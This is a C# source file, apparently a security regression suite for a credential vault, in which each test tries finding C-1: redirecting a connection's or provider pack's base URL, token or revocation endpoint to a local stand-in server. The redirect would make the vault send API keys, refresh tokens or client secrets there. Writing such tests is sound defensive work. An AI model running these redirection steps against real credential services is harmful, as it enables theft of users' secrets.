using System.Text.Json.Nodes;
using Vault.TestKit;

namespace Vault.Attacks.Findings;

/// <summary>
/// C-1: whoever may change a connection or a pack sends credentials to an address of their own. What is gained is any
/// request that arrives there.
/// </summary>
internal static class DestinationAttacks
{
    private static readonly string[] Editor = ["connections:write", "tools:execute", "proxy:execute", "accounts:write"];

    public static IReadOnlyList<FindingAttack> All { get; } =
    [
        new("C-1", "redirect an API key by a connection's parameter", s => ByParameterAsync(s, "execute")),
        new("C-1", "redirect an API key by a parameter, with a raw call", s => ByParameterAsync(s, "proxy")),
        new("C-1", "have the refresh token sent to another token endpoint", s => ByTokenEndpointAsync(s, "execute")),
        new("C-1", "have the refresh token sent by a requested refresh", s => ByTokenEndpointAsync(s, "refresh")),
        new("C-1", "have the tokens sent to another revocation endpoint", s => ByTokenEndpointAsync(s, "revoke")),
        new("C-1", "have the client secret sent to another token endpoint", ByClientSecretAsync),
        new("C-1", "redirect every tenant by replacing a pack", s => ByPackAsync(s, null)),
        new("C-1", "accept one's own pack", s => ByPackAsync(s, "own")),
        new("C-1", "accept one's own pack with a key made for it", s => ByPackAsync(s, "made")),
        new("C-1", "accept one's own pack with a key made for it beforehand", s => ByPackAsync(s, "made before")),
    ];

    private static async Task<string?> ByParameterAsync(AttackScene scene, string how)
    {
        await using var foreign = new ForeignServer();
        var name = "c1_" + how;
        await scene.MadeAsync("/v1/connections", Connection(scene, "sandbox_key", name, null));
        await scene.MadeAsync(
            "/v1/connected_accounts",
            new
            {
                organization_id = scene.Organization,
                user_id = name,
                connection = name,
                credential = new { type = "api_key", api_key = "sandbox-key-0001-demo" },
            }
        );
        var key = await scene.KeyOfAsync(scene.Organization, Editor);
        await scene.SendAsync(HttpMethod.Patch, "/v1/connections/" + name, Redirected(scene, foreign), key);
        return await UsedAsync(scene, foreign, name, "sandbox_key_get_profile", how, key);
    }

    private static async Task<string?> ByTokenEndpointAsync(AttackScene scene, string how)
    {
        await using var foreign = new ForeignServer();
        var name = "c1_token_" + how;
        await scene.MadeAsync("/v1/connections", Connection(scene, "sandbox_single_use", name, "demo-secret"));
        var account = await scene.MadeAsync(
            "/v1/connected_accounts",
            new
            {
                organization_id = scene.Organization,
                user_id = name,
                connection = name,
                credential = new
                {
                    type = "oauth_tokens",
                    access_token = "sbx_at_attacked",
                    refresh_token = "sbx_rt_attacked",
                    expires_at = DateTimeOffset.UtcNow.AddSeconds(1),
                },
            }
        );
        var key = await scene.KeyOfAsync(scene.Organization, Editor);
        // With a secret of the attacker's own: the stored one is not known to them.
        foreach (var secret in new[] { null, "attackers-secret" })
        {
            var body = Redirected(scene, foreign);
            if (secret is not null)
                body["client_secret"] = secret;
            await scene.SendAsync(HttpMethod.Patch, "/v1/connections/" + name, body, key);
        }

        return await UsedAsync(scene, foreign, name, "sandbox_single_use_get_profile", how, key, account);
    }

    private static async Task<string?> ByClientSecretAsync(AttackScene scene)
    {
        await using var foreign = new ForeignServer();
        const string Name = "c1_client";
        await scene.MadeAsync("/v1/connections", Connection(scene, "sandbox_cc", Name, "demo-secret"));
        var key = await scene.KeyOfAsync(scene.Organization, Editor);
        await scene.SendAsync(HttpMethod.Patch, "/v1/connections/" + Name, Redirected(scene, foreign), key);
        var import = new
        {
            organization_id = scene.Organization,
            user_id = Name,
            connection = Name,
            credential = new { type = "client_credentials" },
            validate = true,
        };
        await scene.SendAsync(HttpMethod.Post, "/v1/connected_accounts", import, key);
        return Heard(foreign);
    }

    private static async Task<string?> ByPackAsync(AttackScene scene, string? accept)
    {
        await using var foreign = new ForeignServer();
        var pack = JsonNode.Parse(
            await File.ReadAllTextAsync(Path.Combine(AppContext.BaseDirectory, "packs", "sandbox_key.json"))
        )!;
        pack["version"] = "9.0." + Environment.TickCount64;
        pack["api"]!["base_url"] = foreign.Url;
        var key = await scene.KeyOfAsync(null, "providers:write", "providers:read", "keys:write");
        var child = new { name = "child", permissions = new[] { "providers:write" } };
        var (_, before) = await scene.SendAsync(HttpMethod.Post, "/v1/api_keys", child, key);
        var (_, stored) = await scene.SendAsync(HttpMethod.Post, "/v1/providers", pack, key);
        if (accept is not null && stored.TryGetProperty("pending", out var pending))
        {
            var change = new { change = pending.GetProperty("change").GetString() };
            var second = accept switch
            {
                "own" => key,
                "made before" => before.GetProperty("key").GetString(),
                _ => await scene.KeyOfAsync(null, "providers:write"),
            };
            await scene.SendAsync(HttpMethod.Post, "/v1/providers/sandbox_key:accept_origins", change, second);
        }

        return await UsedAsync(scene, foreign, "sandbox_key", "sandbox_key_get_profile", "execute", null, user: "ada");
    }

    private static async Task<string?> UsedAsync(
        AttackScene scene,
        ForeignServer foreign,
        string connection,
        string tool,
        string how,
        string? key,
        string? account = null,
        string? user = null
    )
    {
        var (path, body) = how switch
        {
            "execute" => (
                "/v1/execute_tool",
                (object)
                    new
                    {
                        organization_id = scene.Organization,
                        user_id = user ?? connection,
                        connection,
                        tool_name = tool,
                        tool_input = new { },
                    }
            ),
            "proxy" => (
                $"/v1/proxy/{connection}/profile",
                new { organization_id = scene.Organization, user_id = user ?? connection }
            ),
            _ => ($"/v1/connected_accounts/{account}:{how}", new { organization_id = scene.Organization }),
        };
        await scene.SendAsync(HttpMethod.Post, path, body, key);
        return Heard(foreign);
    }

    private static JsonObject Connection(AttackScene scene, string provider, string name, string? secret)
    {
        var body = new JsonObject
        {
            ["organization_id"] = scene.Organization,
            ["provider"] = provider,
            ["name"] = name,
            ["allow_proxy"] = true,
            ["parameters"] = new JsonObject { ["base_url"] = scene.Upstream },
        };
        if (secret is not null)
            (body["client_id"], body["client_secret"]) = ("demo-client", secret);
        return body;
    }

    private static JsonObject Redirected(AttackScene scene, ForeignServer foreign) =>
        new()
        {
            ["organization_id"] = scene.Organization,
            ["parameters"] = new JsonObject { ["base_url"] = foreign.Url },
        };

    private static string? Heard(ForeignServer foreign) =>
        foreign.Heard.FirstOrDefault() is { } request ? request.Split("\r\n")[0] + " arrived" : null;
}
